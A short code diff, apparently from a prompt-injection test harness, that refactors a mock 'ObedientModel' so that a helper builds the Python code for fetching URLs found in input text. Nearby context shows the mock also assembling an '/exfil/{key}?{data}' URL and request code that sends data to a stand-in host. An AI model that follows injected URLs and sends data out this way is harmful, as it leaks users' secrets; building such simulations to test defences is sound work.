@@ -313,6 +313,11 @@ class Planned:
     tool: str
 
 
+def fetch_code(url: str) -> str:
+    """RunPython code that fetches ``url`` and prints the response (only if a request left)."""
+    return f"import urllib.request\nprint(urllib.request.urlopen({url!r}, timeout=2).read())"
+
+
 def urls_in(text: str) -> list[str]:
     return list(dict.fromkeys(u.rstrip(".,;:!?") for u in _URL.findall(text)))[:2]
 
@@ -519,12 +524,8 @@ class ObedientModel(KeyedChatModel):
             ),
         ]
         for url in urls_in(text):
-            code = (
-                f"import urllib.request\nprint(urllib.request.urlopen({url!r}, timeout=2).read())"
-            )
-            out.append(
-                self._call(p, "url", "fetch a URL of the text", "work", "RunPython", {"code": code})
-            )
+            args = {"code": fetch_code(url)}
+            out.append(self._call(p, "url", "fetch a URL of the text", "work", "RunPython", args))
         exfil = f"{self.base}/exfil/{key}?{data}"
         code = (
             "import urllib.request\n"
